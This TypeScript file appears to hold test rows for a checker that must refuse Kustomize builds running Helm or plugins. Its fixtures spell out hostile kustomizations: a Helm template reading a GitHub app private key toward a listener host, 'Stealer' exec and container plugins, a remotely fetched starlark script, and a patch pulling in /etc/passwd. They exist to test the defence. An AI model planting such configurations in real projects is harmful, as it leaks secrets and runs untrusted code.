// Group B: what a kustomization may run (064–067).
import { yaml } from '../fleet.ts';
import type { Row } from './arena.ts';
import { component, deploy } from './fixtures.ts';

const helm = (fields: object): Row['expect'] => ({ exit: 2, codes: ['build.helm'], ...fields });
const plugin: Row['expect'] = { exit: 2, codes: ['build.plugin'] };
const stealer = (annotations: object = {}, apiVersion = 'example.com/v1'): string =>
  yaml({ apiVersion, kind: 'Stealer', metadata: { name: 'x', annotations } });

export const programRows: readonly Row[] = [
  {
    id: '064',
    title: 'helmCharts with a template in its name',
    files: deploy({
      helmCharts: [{ name: 'x', repo: 'http://@LISTENER@', nameTemplate: '{{ env "GITHUB_APP_PRIVATE_KEY" }}' }],
    }),
    expect: helm({}),
  },
  { id: '064', title: 'helmGlobals', files: deploy({ helmGlobals: { configHome: '@FOLDER@' } }), expect: helm({}) },
  {
    id: '064',
    title: 'helmCharts in another case, in a component',
    files: {
      ...deploy({ components: ['part'] }),
      'deploy/part/kustomization.yaml': component({ HelmCharts: [{ name: 'x' }] }),
    },
    expect: { exit: 2 },
  },
  {
    id: '064',
    title: 'helmChartInflationGenerator',
    files: deploy({ helmChartInflationGenerator: [{ chartName: 'x' }] }),
    expect: helm({}),
  },
  {
    id: '066',
    title: 'a Go or exec plugin as generator',
    files: deploy({ generators: ['plugin.yaml'] }, { 'deploy/plugin.yaml': stealer() }),
    expect: plugin,
  },
  { id: '066', title: 'a plugin as transformer, inline', files: deploy({ transformers: [stealer()] }), expect: plugin },
  {
    id: '066',
    title: 'a plugin as validator, in a folder',
    files: deploy(
      { validators: ['v'] },
      { 'deploy/v/kustomization.yaml': yaml({ resources: ['plugin.yaml'] }), 'deploy/v/plugin.yaml': stealer() },
    ),
    expect: plugin,
  },
  {
    id: '066',
    title: 'an exec function',
    files: deploy(
      { generators: [stealer({ 'config.kubernetes.io/function': 'exec:\n  path: ./steal.sh\n' })] },
      { 'deploy/steal.sh': '#!/bin/sh\n' },
    ),
    expect: plugin,
  },
  {
    id: '066',
    title: 'a container function by the old name',
    files: deploy({ transformers: [stealer({ 'config.k8s.io/function': 'container:\n  image: evil\n' })] }),
    expect: plugin,
  },
  {
    id: '066',
    title: 'a function around a builtin name',
    files: deploy({ transformers: [stealer({ 'config.kubernetes.io/function': 'exec:\n  path: ./x\n' }, 'builtin')] }),
    expect: plugin,
  },
  {
    id: '066',
    title: 'a starlark function',
    files: deploy({
      transformers: [stealer({ 'config.kubernetes.io/function': 'starlark:\n  url: http://@LISTENER@/x.star\n' })],
    }),
    expect: plugin,
  },
  {
    id: '066',
    title: 'a plugin that a generator generates',
    files: deploy(
      { generators: ['gen'] },
      {
        'deploy/gen/kustomization.yaml': yaml({
          resources: ['p.yaml'],
          patches: [
            {
              target: { kind: 'ConfigMapGenerator' },
              patch: yaml([
                { op: 'replace', path: '/kind', value: 'Stealer' },
                { op: 'replace', path: '/apiVersion', value: 'example.com/v1' },
              ]),
              options: { allowKindChange: true },
            },
          ],
        }),
        'deploy/gen/p.yaml': yaml({
          apiVersion: 'builtin',
          kind: 'ConfigMapGenerator',
          metadata: { name: 'x' },
          literals: ['a=b'],
        }),
      },
    ),
    expect: { exit: 2 },
  },
  {
    id: '067',
    title: 'the builtin Helm generator',
    files: deploy({
      generators: [
        yaml({
          apiVersion: 'builtin',
          kind: 'HelmChartInflationGenerator',
          metadata: { name: 'x' },
          name: 'x',
          repo: 'http://@LISTENER@',
        }),
      ],
    }),
    expect: helm({}),
  },
  {
    id: '067',
    title: 'the builtin Helm generator that a patch makes',
    files: deploy(
      { generators: ['gen'] },
      {
        'deploy/gen/kustomization.yaml': yaml({
          resources: ['p.yaml'],
          patches: [
            {
              target: { kind: 'ConfigMapGenerator' },
              patch: yaml([{ op: 'replace', path: '/kind', value: 'HelmChartInflationGenerator' }]),
              options: { allowKindChange: true },
            },
          ],
        }),
        'deploy/gen/p.yaml': yaml({
          apiVersion: 'builtin',
          kind: 'ConfigMapGenerator',
          metadata: { name: 'x' },
          name: 'x',
          repo: 'http://@LISTENER@',
        }),
      },
    ),
    expect: { exit: 2 },
  },
  {
    id: '067',
    title: 'a builtin generator whose file a patch changes to an address',
    files: deploy(
      { generators: ['gen'] },
      {
        'deploy/gen/kustomization.yaml': yaml({
          resources: ['p.yaml'],
          patches: [
            {
              target: { kind: 'ConfigMapGenerator' },
              patch: yaml([{ op: 'add', path: '/files', value: ['http://@LISTENER@/x', '/etc/passwd'] }]),
            },
          ],
        }),
        'deploy/gen/p.yaml': yaml({
          apiVersion: 'builtin',
          kind: 'ConfigMapGenerator',
          metadata: { name: 'x' },
          literals: ['a=b'],
        }),
      },
    ),
    expect: { exit: 2 },
  },
];
